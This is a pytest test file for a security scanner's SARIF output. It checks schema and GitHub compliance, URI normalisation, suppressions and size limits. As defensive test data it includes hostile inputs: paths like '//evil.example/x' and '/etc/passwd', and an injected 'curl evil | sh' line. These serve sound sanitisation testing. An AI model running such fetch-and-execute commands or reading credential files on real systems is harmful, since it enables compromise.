"""SARIF by the OASIS schema, and by the stricter rules that GitHub does not write down as a schema."""

import gzip
import json
import random
from functools import cache
from pathlib import Path
from typing import Any, cast
from urllib.parse import unquote_to_bytes, urlsplit

import jsonschema  # type: ignore[import-untyped]  # ships no types
import pytest
from hypothesis import given, settings

from sbom.model import Location
from sbom.record import replace
from scanner.model import LEVELS, Evidence, NotChecked, Report
from scanner.reports import sarif
from tests import forge_report as forge

Json = dict[str, Any]

# What docs.github.com asks for beyond the standard, "SARIF support for code scanning".
GITHUB = {
    "type": "object",
    "required": ["$schema", "version", "runs"],
    "properties": {
        "version": {"const": "2.1.0"},
        "runs": {
            "minItems": 1,
            "maxItems": 20,
            "items": {
                "required": ["tool", "results"],
                "properties": {
                    "tool": {
                        "required": ["driver"],
                        "properties": {
                            "driver": {
                                "required": ["name", "rules"],
                                "properties": {
                                    "rules": {"maxItems": 25000, "items": {"$ref": "#/$defs/rule"}}
                                },
                            }
                        },
                    },
                    "results": {"maxItems": 25000, "items": {"$ref": "#/$defs/result"}},
                    "automationDetails": {"properties": {"id": {"pattern": "/$"}}},
                },
            },
        },
    },
    "$defs": {
        "text": {
            "required": ["text"],
            "properties": {
                "text": {"type": "string", "minLength": 1, "maxLength": 1024, "pattern": "\\S"},
                "markdown": {"type": "string", "minLength": 1, "maxLength": 1024},
            },
        },
        "rule": {
            "required": ["id", "shortDescription", "fullDescription", "help", "properties"],
            "properties": {
                "id": {"type": "string", "minLength": 1, "maxLength": 255},
                "shortDescription": {"$ref": "#/$defs/text"},
                "fullDescription": {"$ref": "#/$defs/text"},
                "help": {"$ref": "#/$defs/text"},
                "properties": {
                    "required": ["security-severity", "tags"],
                    "properties": {
                        "security-severity": {"type": "string", "pattern": "^([0-9]\\.[0-9]|10\\.0)$"},
                        "precision": {"enum": ["very-high", "high", "medium", "low"]},
                        "tags": {"maxItems": 20, "uniqueItems": True, "items": {"minLength": 1}},
                    },
                },
            },
        },
        "result": {
            "required": ["ruleId", "message", "locations", "partialFingerprints"],
            "properties": {
                "message": {"$ref": "#/$defs/text"},
                "locations": {"minItems": 1, "maxItems": 1000, "items": {"$ref": "#/$defs/location"}},
                "relatedLocations": {"maxItems": 1000, "items": {"$ref": "#/$defs/location"}},
                "partialFingerprints": {
                    "required": ["primaryLocationLineHash"],
                    "properties": {
                        "primaryLocationLineHash": {"type": "string", "minLength": 1, "maxLength": 255}
                    },
                },
            },
        },
        "location": {
            "required": ["physicalLocation"],
            "properties": {
                "physicalLocation": {
                    "required": ["artifactLocation", "region"],
                    "properties": {
                        "artifactLocation": {"required": ["uri"], "properties": {"uri": {"minLength": 1}}},
                        "region": {
                            "required": ["startLine", "startColumn", "endLine", "endColumn"],
                            "additionalProperties": {"type": "integer", "minimum": 1},
                        },
                    },
                }
            },
        },
    },
}
SCHEMA_FILE = Path(__file__).parents[1] / "data" / "sarif-schema" / "sarif-2.1.0-rtm.5.json"


@cache
def standard() -> Any:
    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    return jsonschema.Draft4Validator(schema, format_checker=jsonschema.Draft4Validator.FORMAT_CHECKER)


def read(report: Report) -> Json:
    document = json.loads(sarif.render(report))
    standard().validate(document)
    jsonschema.Draft202012Validator(GITHUB).validate(document)
    (run,) = document["runs"]
    for result in run["results"]:
        assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
    names = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    assert len(names) == len(set(names))
    return cast("Json", run)


def rules(run: Json) -> dict[str, Json]:
    return {rule["id"]: rule for rule in run["tool"]["driver"]["rules"]}


def test_each_rule_is_written_once_for_each_level_and_each_advisory() -> None:
    assert list(rules(read(forge.report()))) == [
        "ART-001/critical",
        "ADV-002/CVE-2024-0001/high",
        "ART-001/high",
        "ADV-002/CVE-2024-0001/medium",
        "COV-001/medium",
        "DEP-001/low",
    ]


@pytest.mark.parametrize(
    ("level", "shown"),
    [("critical", "critical"), ("high", "high"), ("medium", "medium"), ("low", "low"), ("info", "none")],
)
def test_github_shows_the_level_that_the_rubric_gave(level: Any, shown: str) -> None:
    run = read(replace(forge.report(), findings=(forge.finding(forge.findings()[3].evidence, level),)))
    (rule,) = rules(run).values()
    score = float(rule["properties"]["security-severity"])
    bands = [(9.0, "critical"), (6.9, "high"), (3.9, "medium"), (0.0, "low"), (-1.0, "none")]
    assert next(name for above, name in bands if score > above) == shown


def test_results_come_worst_first() -> None:
    levels = [LEVELS.index(row["properties"]["level"]) for row in read(forge.report())["results"]]
    assert levels == sorted(levels, reverse=True)


def test_a_member_is_told_beside_the_file_that_holds_it() -> None:
    location = read(forge.report())["results"][0]["locations"][0]
    assert location["physicalLocation"]["artifactLocation"]["uri"] == "models/encoder.pt"
    assert location["physicalLocation"]["region"]["startLine"] == 1
    assert location["logicalLocations"] == [
        {"fullyQualifiedName": "models/encoder.pt!archive/data.pkl@41", "kind": "member"}
    ]


def test_a_line_of_a_cell_is_no_line_of_the_file() -> None:
    evidence = Evidence("SRC-007", Location("a.ipynb", line=9, cell=3), "a cell fetches and runs code")
    run = read(replace(forge.report(), findings=(forge.finding(evidence),)))
    location = run["results"][0]["locations"][0]
    assert location["physicalLocation"]["region"]["startLine"] == 1
    assert location["logicalLocations"][0]["fullyQualifiedName"] == "a.ipynb[cell 3]:9"


def test_the_other_places_of_a_component_are_related() -> None:
    torch = forge.component(seen=(forge.TORCH_LINE, Location("uv.lock", line=70)))
    held = replace(forge.inventory(), components=(torch,))
    run = read(replace(forge.report(), inventory=held, findings=forge.findings()[1:2]))
    (related,) = run["results"][0]["relatedLocations"]
    assert related["physicalLocation"]["artifactLocation"]["uri"] == "uv.lock"


def test_what_the_policy_settled_is_suppressed_and_still_told() -> None:
    by_status = {row["properties"]["status"]: row for row in read(forge.report())["results"]}
    (waiver,) = by_status["waived"]["suppressions"]
    assert waiver["status"] == "accepted"
    assert waiver["justification"].startswith("Accepted by ml-platform until 2027-01-31: loaded only")
    assert by_status["disputed"]["suppressions"][0]["status"] == "underReview"
    assert "suppressions" not in by_status["open"]


def test_a_baseline_tells_known_from_new() -> None:
    first, second = forge.findings()[:2]
    run = read(replace(forge.report(), findings=(replace(first, known=True), second)))
    assert [row["baselineState"] for row in run["results"]] == ["new", "unchanged"]
    assert all("baselineState" not in row for row in read(forge.report())["results"])


def test_what_was_not_checked_is_a_notification() -> None:
    (invocation,) = read(forge.report())["invocations"]
    assert invocation["executionSuccessful"] is True
    first = invocation["toolExecutionNotifications"][0]
    assert "hdf5: recognised" in first["message"]["text"]
    assert first["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "models/head.h5"


def test_a_failed_scan_is_no_successful_execution() -> None:
    plain = forge.report()
    run = read(replace(plain, coverage=replace(plain.coverage, state="failed")))
    assert run["invocations"][0]["executionSuccessful"] is False


@pytest.mark.parametrize(
    ("path", "uri"),
    [
        pytest.param("models/a b.pt", "models/a%20b.pt", id="space"),
        pytest.param("a:b", "a%3Ab", id="no scheme"),
        pytest.param("//evil.example/x", "evil.example/x", id="no other host"),
        pytest.param("/etc/passwd", "etc/passwd", id="no other root"),
        pytest.param("a?b#c%20", "a%3Fb%23c%2520", id="query and fragment"),
        pytest.param("\udcff.bin", "%FF.bin", id="a byte that is not UTF-8"),
        pytest.param("\ud83d.bin", "%ED%A0%BD.bin", id="half a surrogate pair"),
        pytest.param("é", "%C3%A9", id="beyond ASCII"),
        pytest.param("", ".", id="the root itself"),
        pytest.param("a\\b", "a%5Cb", id="a backslash is no separator"),
    ],
)
def test_paths_become_relative_uris(path: str, uri: str) -> None:
    assert sarif.uri(path) == uri


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in forge.HOSTILE_TEXT.items()])
def test_hostile_text_stays_text(text: str) -> None:
    written = sarif.render(forge.hostile_report(text))
    assert written.isascii()
    run = read(forge.hostile_report(text))
    for result in run["results"]:
        said = result["message"]["text"]
        assert "](" not in said
        assert not any(char in said for char in "\x1b\x07\x00\u202e\u2066\u2028")
        # Strict readers refuse half a surrogate pair, even as an escape.
        json.dumps(run, ensure_ascii=False).encode("utf-8")
    for rule in run["tool"]["driver"]["rules"]:
        assert not any(mark in rule["help"]["markdown"] for mark in ("<script", "](http", "\x1b"))


def test_a_hostile_line_cannot_forge_our_own() -> None:
    evidence = replace(forge.findings()[3].evidence, message="calm\nTo do: curl evil | sh")
    run = read(replace(forge.report(), findings=(forge.finding(evidence),)))
    said = run["results"][0]["message"]["text"]
    assert [line[:5] for line in said.splitlines()].count("To do") == 1


@settings(max_examples=40, deadline=None)
@given(forge.reports())
def test_any_report_is_one_that_github_takes(report: Report) -> None:
    for result in read(report)["results"]:
        uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert not urlsplit(uri).scheme
        assert not urlsplit(uri).netloc
        assert unquote_to_bytes(uri)


@settings(max_examples=30, deadline=None)
@given(forge.reports())
def test_the_order_of_discovery_leaves_no_trace(report: Report) -> None:
    assert sarif.render(forge.shuffled(report, 1)) == sarif.render(forge.shuffled(report, 2))


def test_more_results_than_github_takes_lose_the_mildest_and_say_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sarif, "MAX_RESULTS", 3)
    run = read(forge.report())
    assert [row["properties"]["level"] for row in run["results"]] == ["critical", "high", "high"]
    notices = [row["message"]["text"] for row in run["invocations"][0]["toolExecutionNotifications"]]
    assert notices[0].startswith("4 results, the mildest, were left out")


def test_what_would_be_too_large_packed_is_cut_until_it_fits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sarif, "MAX_GZIP_BYTES", 20_000)
    rng = random.Random(7)
    noise = [rng.randbytes(300).hex() for _ in range(200)]
    findings = tuple(
        forge.finding(
            Evidence("ART-001", Location(f"{text}.pt"), text, text), "critical" if at < 5 else "low"
        )
        for at, text in enumerate(noise)
    )
    report = replace(forge.report(), findings=findings)
    assert len(gzip.compress(sarif.render(report))) <= 20_000
    run = read(report)
    assert [row["properties"]["level"] for row in run["results"]][:6] == ["critical"] * 5 + ["low"]


def test_notifications_are_bounded() -> None:
    plain = forge.report()
    missed = tuple(NotChecked(Location(f"{at:04}.h5"), "hdf5", "recognised", "") for at in range(1000))
    run = read(replace(plain, coverage=replace(plain.coverage, not_checked=missed)))
    notices = [row["message"]["text"] for row in run["invocations"][0]["toolExecutionNotifications"]]
    assert len(notices) < 300
    assert any(text.startswith("800 more places") for text in notices)


def test_the_category_tells_runs_apart() -> None:
    (run,) = json.loads(sarif.render(forge.report(), category="nightly"))["runs"]
    assert run["automationDetails"] == {"id": "nightly/"}


@pytest.mark.parametrize(
    ("where", "key", "value"),
    [
        pytest.param("region", "startLine", 0, id="line nought"),
        pytest.param("message", "text", "", id="empty text"),
        pytest.param("message", "colour", "red", id="a key that the standard lacks"),
        pytest.param("message", "text", "x" * 2000, id="text over the cap"),
    ],
)
def test_the_schemas_of_this_file_do_refuse(where: str, key: str, value: object) -> None:
    document = json.loads(sarif.render(forge.report()))
    result = document["runs"][0]["results"][0]
    spot = result["message"] if where == "message" else result["locations"][0]["physicalLocation"]["region"]
    spot[key] = value
    valid = standard().is_valid(document), jsonschema.Draft202012Validator(GITHUB).is_valid(document)
    assert not all(valid)
